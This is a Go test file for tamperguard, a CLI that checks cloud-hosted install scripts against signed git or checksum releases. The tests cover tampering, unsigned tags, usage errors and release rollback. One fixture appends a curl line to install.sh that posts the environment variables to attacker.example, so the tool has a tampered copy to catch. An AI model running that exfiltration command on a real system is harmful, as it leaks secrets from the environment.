package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"cloud.google.com/go/storage"
	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/iterator"

	"github.com/tamperguard/tamperguard/internal/version"
)

func testdataPath(t *testing.T, elem ...string) string {
	t.Helper()
	p, err := filepath.Abs(filepath.Join(append([]string{"..", "..", "testdata"}, elem...)...))
	require.NoError(t, err)
	return p
}

// runCLI runs the command line in-process and returns stdout, stderr and the exit code.
func runCLI(t *testing.T, env map[string]string, args ...string) (string, string, int) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := run(context.Background(), envFor(&stdout, &stderr, env), args)
	return stdout.String(), stderr.String(), code
}

func envFor(stdout, stderr *bytes.Buffer, kv map[string]string) env {
	return env{stdout: stdout, stderr: stderr, getenv: func(k string) string { return kv[k] }}
}

// writeConfig writes a configuration that trusts the fixture repository's maintainers.
func writeConfig(t *testing.T, tag string, keys string) string {
	t.Helper()
	dir := t.TempDir()
	cfg := `rules:
  - bucket: uploader-prod
    objects: [OBJECTS]
    release:
      git: ` + testdataPath(t, "git", "uploader.git") + `
      tag: "` + tag + `"
    keys:
` + keys
	objects := `"install.sh"`
	if tag == "{tag}" {
		objects = `"{tag}/install.sh"`
	}
	cfg = strings.Replace(cfg, "OBJECTS", objects, 1)
	p := filepath.Join(dir, "tamperguard.yaml")
	require.NoError(t, os.WriteFile(p, []byte(cfg), 0o600))
	return p
}

func allMaintainerKeys(t *testing.T) string {
	ssh, err := os.ReadFile(testdataPath(t, "keys", "release_ed25519.pub"))
	require.NoError(t, err)
	return `      openpgp: ["` + testdataPath(t, "keys", "maintainer-ed25519.asc") + `", "` + testdataPath(t, "keys", "maintainer-rsa3072.asc") + `"]
      ssh: ["` + strings.TrimSpace(string(ssh)) + `"]
`
}

// releasedInstallSh writes install.sh as the fixture repository tagged it at tag.
func releasedInstallSh(t *testing.T, tag string) string {
	t.Helper()
	repo, err := git.PlainOpen(testdataPath(t, "git", "uploader.git"))
	require.NoError(t, err)
	ref, err := repo.Reference(plumbing.NewTagReferenceName(tag), true)
	require.NoError(t, err)
	hash := ref.Hash()
	if to, err := repo.TagObject(hash); err == nil {
		hash = to.Target
	}
	commit, err := repo.CommitObject(hash)
	require.NoError(t, err)
	f, err := commit.File("install.sh")
	require.NoError(t, err)
	content, err := f.Contents()
	require.NoError(t, err)
	p := filepath.Join(t.TempDir(), "install.sh")
	require.NoError(t, os.WriteFile(p, []byte(content), 0o600))
	return p
}

func decodeLine(t *testing.T, stdout string) verifyLine {
	t.Helper()
	lines := strings.Split(strings.TrimSpace(stdout), "\n")
	require.Len(t, lines, 1, "one JSON line on stdout: %q", stdout)
	var l verifyLine
	require.NoError(t, json.Unmarshal([]byte(lines[0]), &l))
	return l
}

func TestVerifyOK(t *testing.T) {
	cfg := writeConfig(t, "latest", allMaintainerKeys(t))
	file := releasedInstallSh(t, "v1.2.0")
	stdout, stderr, code := runCLI(t, nil, "verify", "--config", cfg, "--object", "install.sh", file)
	require.Equal(t, exitOK, code, stderr)
	l := decodeLine(t, stdout)
	assert.Equal(t, "ok", l.Verdict)
	assert.Equal(t, "v1.2.0", l.Release)
	assert.Equal(t, l.ExpectedSHA256, l.ActualSHA256)
	assert.Regexp(t, `^openpgp:[0-9A-F]{40}$`, l.Signer)
	assert.Contains(t, stderr, "OK: ")
	assert.Contains(t, stderr, `newer tag "v1.5.0" was not trusted`)
}

func TestVerifyTampered(t *testing.T) {
	cfg := writeConfig(t, "latest", allMaintainerKeys(t))
	file := releasedInstallSh(t, "v1.2.0")
	f, err := os.OpenFile(file, os.O_APPEND|os.O_WRONLY, 0)
	require.NoError(t, err)
	_, err = f.WriteString("curl -sm 0.5 -d \"$(env)\" https://attacker.example/upload || true\n")
	require.NoError(t, err)
	require.NoError(t, f.Close())

	// Flags after the file work too; the config comes from the environment.
	stdout, stderr, code := runCLI(t, map[string]string{"TAMPERGUARD_CONFIG_FILE": cfg}, "verify", file, "--object", "gs://uploader-prod/install.sh")
	require.Equal(t, exitTampered, code, stderr)
	l := decodeLine(t, stdout)
	assert.Equal(t, "tampered", l.Verdict)
	assert.NotEqual(t, l.ExpectedSHA256, l.ActualSHA256)
	assert.Equal(t, "v1.2.0", l.Release)
	assert.Contains(t, stderr, "TAMPERED")
	assert.Contains(t, stderr, "Do not run")
}

func TestVerifyTagFromObjectName(t *testing.T) {
	cfg := writeConfig(t, "{tag}", allMaintainerKeys(t))
	file := releasedInstallSh(t, "v1.1.0")
	stdout, stderr, code := runCLI(t, nil, "verify", "--config", cfg, "--object", "v1.1.0/install.sh", file)
	require.Equal(t, exitOK, code, stderr)
	l := decodeLine(t, stdout)
	assert.Equal(t, "v1.1.0", l.Release)
	assert.True(t, strings.HasPrefix(l.Signer, "ssh:SHA256:"), l.Signer)

	// The v1.1.0 copy is not what v1.2.0 signed.
	stdout, _, code = runCLI(t, nil, "verify", "--config", cfg, "--object", "v1.2.0/install.sh", file)
	assert.Equal(t, exitTampered, code)
	assert.Equal(t, "tampered", decodeLine(t, stdout).Verdict)
}

func TestVerifyUnverifiable(t *testing.T) {
	file := releasedInstallSh(t, "v1.2.0")
	for _, tt := range []struct {
		name, tag, reason string
	}{
		{"unsigned tag", "v1.3.0", "release_unsigned"},
		{"wrong key", "v1.4.0", "signature_refused"},
		{"lightweight tag", "v1.5.0", "release_unsigned"},
		{"missing tag", "v9.9.9", "release_not_found"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			cfg := writeConfig(t, tt.tag, allMaintainerKeys(t))
			stdout, stderr, code := runCLI(t, nil, "verify", "--config", cfg, "--object", "install.sh", file)
			assert.Equal(t, exitError, code)
			l := decodeLine(t, stdout)
			assert.Equal(t, "unverifiable", l.Verdict)
			assert.Equal(t, tt.reason, l.Reason)
			assert.NotEmpty(t, l.Error)
			assert.Contains(t, stderr, "UNVERIFIABLE")
		})
	}
	t.Run("entry missing", func(t *testing.T) {
		cfg := writeConfig(t, "latest", allMaintainerKeys(t))
		require.NoError(t, os.WriteFile(cfg, []byte(strings.Replace(mustRead(t, cfg), `tag: "latest"`, "tag: latest\n      entry: other.sh", 1)), 0o600))
		stdout, _, code := runCLI(t, nil, "verify", "--config", cfg, "--object", "install.sh", file)
		assert.Equal(t, exitError, code)
		assert.Equal(t, "entry_missing", decodeLine(t, stdout).Reason)
	})
	t.Run("unreadable file", func(t *testing.T) {
		cfg := writeConfig(t, "latest", allMaintainerKeys(t))
		stdout, _, code := runCLI(t, nil, "verify", "--config", cfg, "--object", "install.sh", filepath.Join(t.TempDir(), "nope"))
		assert.Equal(t, exitError, code)
		assert.Equal(t, "object_unreadable", decodeLine(t, stdout).Reason)
	})
}

func mustRead(t *testing.T, p string) string {
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	return string(b)
}

func TestVerifyUsageErrors(t *testing.T) {
	cfg := writeConfig(t, "latest", allMaintainerKeys(t))
	for _, tt := range []struct {
		args []string
		want string
	}{
		{[]string{"verify", "--config", cfg, "file"}, "need --object NAME"},
		{[]string{"verify", "--config", cfg, "--object", "x"}, "need --object NAME"},
		{[]string{"verify", "--config", cfg, "--object", "not-covered.sh", "f"}, `no rule in`},
		{[]string{"verify", "--config", cfg, "--object", "gs://other/install.sh", "f"}, "no rule in"},
		{[]string{"verify", "--config", cfg, "--object", "gs://nobucketslash", "f"}, "want gs://BUCKET/NAME"},
		{[]string{"verify", "--config", cfg, "--object", "gs://-ab/install.sh", "f"}, `"-ab" is not a bucket name (must start and end with a letter or digit)`},
		{[]string{"verify", "--config", cfg, "--bucket", "-ab", "--object", "install.sh", "f"}, `--bucket: "-ab" is not a bucket name`},
		{[]string{"verify", "--config", cfg, "--object", "..", "f"}, `--object: ".." is not an object name`},
		{[]string{"verify", "--config", cfg, "--object", "gs://uploader-prod/install.sh#5", "f"}, "names a generation"},
		{[]string{"verify", "--object", "install.sh", "f"}, "tamperguard.yaml not found"},
		{[]string{"verify", "--bogus"}, "flag provided but not defined"},
		{[]string{"nonsense"}, `unknown command "nonsense"`},
	} {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			t.Chdir(t.TempDir())
			stdout, stderr, code := runCLI(t, nil, tt.args...)
			assert.Equal(t, exitError, code)
			assert.Empty(t, stdout)
			assert.Contains(t, stderr, tt.want)
		})
	}
	// Help goes to stdout, and a bad flag is reported once, on one line, with a hint.
	stdout, stderr, code := runCLI(t, nil, "help")
	assert.Equal(t, exitOK, code)
	assert.Contains(t, stdout, "verify")
	assert.Empty(t, stderr)
	for _, args := range [][]string{{"verify", "-h"}, {"help", "verify"}} {
		stdout, stderr, code = runCLI(t, nil, args...)
		assert.Equal(t, exitOK, code, args)
		assert.Contains(t, stdout, "usage: tamperguard verify", args)
		assert.Contains(t, stdout, "-object", args)
		assert.Empty(t, stderr, args)
	}
	_, stderr, _ = runCLI(t, nil, "verify", "--bogus")
	assert.Equal(t, 1, strings.Count(stderr, "flag provided but not defined"), stderr)
	assert.Equal(t, "tamperguard verify: flag provided but not defined: -bogus\nrun 'tamperguard help verify' for its flags\n", stderr)
}

func TestVersion(t *testing.T) {
	for _, args := range [][]string{{"version"}, {"--version"}} {
		stdout, stderr, code := runCLI(t, nil, args...)
		assert.Equal(t, exitOK, code)
		if version.Get().Revision == "" { // a test binary carries no VCS stamp
			assert.Contains(t, stderr, "no VCS revision")
			assert.Contains(t, stderr, "-buildvcs=true")
		} else {
			assert.Empty(t, stderr)
		}
		assert.Regexp(t, `^tamperguard \S+ .*go1\.\d+`, stdout)
	}
	stdout, _, code := runCLI(t, nil, "version", "--json")
	assert.Equal(t, exitOK, code)
	assert.Contains(t, stdout, `"go":"go1.`)
}

// rollbackHost serves release version of testdata/rollback at fixed URLs under /latest/
// (Codecov's layout: the signed checksum file next to the script).
type rollbackHost struct {
	srv   *httptest.Server
	mu    sync.Mutex
	files map[string][]byte
}

func newRollbackHost(t *testing.T) *rollbackHost {
	h := &rollbackHost{files: map[string][]byte{}}
	h.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		b, ok := h.files[r.URL.Path]
		h.mu.Unlock()
		if !ok {
			http.NotFound(w, r)
			return
		}
		_, _ = w.Write(b)
	}))
	t.Cleanup(h.srv.Close)
	return h
}

func (h *rollbackHost) publish(t *testing.T, version string) {
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, n := range []string{"SHA256SUMS", "SHA256SUMS.asc", "install.sh"} {
		h.files["/latest/"+n] = []byte(mustRead(t, testdataPath(t, "rollback", version, n)))
	}
}

// verify reads the deployment's marks and floors from the state bucket: an older, validly
// signed checksum file put back on the release host does not make the older script pass.
func TestVerifyUsesTheStateBucketsFloor(t *testing.T) {
	host := newRollbackHost(t)
	host.publish(t, "v1.1.0")
	b := newBucketEnv(t)
	require.NoError(t, os.WriteFile(b.cfg, []byte(`state: {bucket: tg-state}
rules:
  - bucket: uploader-prod
    objects: ["install.sh"]
    release: {url: `+host.srv.URL+`/latest/SHA256SUMS}
    keys: {openpgp: ["`+testdataPath(t, "rollback", "rollback-ed25519.asc")+`"]}
`), 0o600))
	good := testdataPath(t, "rollback", "v1.1.0", "install.sh")
	old := testdataPath(t, "rollback", "v1.0.0", "install.sh")

	// The deployment checked the bucket while v1.0.0 was current: v1.0.0 is its floor.
	host.publish(t, "v1.0.0")
	b.put("install.sh", []byte(mustRead(t, old)))
	require.Equal(t, exitOK, b.run("check", "--config", b.cfg, "gs://uploader-prod/install.sh"), b.err.String())

	// v1.1.0 is released; a consumer verifies it. verify only reads the state bucket.
	host.publish(t, "v1.1.0")
	before := stateGenerations(t, b)
	require.Equal(t, exitOK, b.run("verify", "--config", b.cfg, "--object", "install.sh", good), b.err.String())
	assert.Equal(t, "ok", decodeLine(t, b.out.String()).Verdict)
	assert.Equal(t, before, stateGenerations(t, b))

	// The deployment checks v1.1.0 in the bucket: it becomes the floor.
	b.put("install.sh", []byte(mustRead(t, good)))
	require.Equal(t, exitOK, b.run("check", "--config", b.cfg, "gs://uploader-prod/install.sh"), b.err.String())

	// The attacker puts v1.0.0's signed checksum file back on the host: the older script no
	// longer passes verify.
	host.publish(t, "v1.0.0")
	code := b.run("verify", "--config", b.cfg, "--object", "install.sh", old)
	assert.Equal(t, exitTampered, code, b.err.String())
	l := decodeLine(t, b.out.String())
	assert.Equal(t, "tampered", l.Verdict)
	assert.Contains(t, l.Floor, "release rollback refused")
	assert.Contains(t, b.err.String(), "the last release that verified")

	code = b.run("verify", "--config", b.cfg, "--object", "install.sh", good)
	assert.Equal(t, exitOK, code, b.err.String())
	assert.Equal(t, "ok", decodeLine(t, b.out.String()).Verdict)
}

// stateGenerations lists every generation in the state bucket.
func stateGenerations(t *testing.T, b *bucketEnv) []string {
	var out []string
	it := b.srv.Client.Bucket("tg-state").Objects(context.Background(), &storage.Query{Versions: true})
	for {
		a, err := it.Next()
		if errors.Is(err, iterator.Done) {
			return out
		}
		require.NoError(t, err)
		out = append(out, a.Name+"#"+strconv.FormatInt(a.Generation, 10))
	}
}

// Configuration warnings reach the person running verify.
func TestVerifyPrintsConfigWarnings(t *testing.T) {
	host := newRollbackHost(t)
	host.publish(t, "v1.1.0")
	dir := t.TempDir()
	cfg := filepath.Join(dir, "tamperguard.yaml")
	ssh := strings.TrimSpace(mustRead(t, testdataPath(t, "rollback", "rollback_ed25519.pub")))
	require.NoError(t, os.WriteFile(cfg, []byte(`rules:
  - bucket: uploader-prod
    objects: ["install.sh"]
    release: {url: `+host.srv.URL+`/latest/SHA256SUMS}
    keys: {ssh: ["`+ssh+`"]}
`), 0o600))
	_, stderr, _ := runCLI(t, nil, "verify", "--config", cfg, "--object", "install.sh", testdataPath(t, "rollback", "v1.1.0", "install.sh"))
	assert.Contains(t, stderr, "warning: line 4: rules[0].release: rollback cannot be detected")
}

// check prints them too (on its log, before judging).
func TestCheckPrintsConfigWarnings(t *testing.T) {
	host := newRollbackHost(t)
	host.publish(t, "v1.1.0")
	b := newBucketEnv(t)
	ssh := strings.TrimSpace(mustRead(t, testdataPath(t, "rollback", "rollback_ed25519.pub")))
	require.NoError(t, os.WriteFile(b.cfg, []byte(`rules:
  - bucket: uploader-prod
    objects: ["install.sh"]
    release: {url: `+host.srv.URL+`/latest/SHA256SUMS}
    keys: {ssh: ["`+ssh+`"]}
`), 0o600))
	b.put("install.sh", []byte(mustRead(t, testdataPath(t, "rollback", "v1.1.0", "install.sh"))))
	b.run("check", "--config", b.cfg, "gs://uploader-prod/install.sh")
	assert.Contains(t, b.err.String(), "rules[0].release: rollback cannot be detected")
}
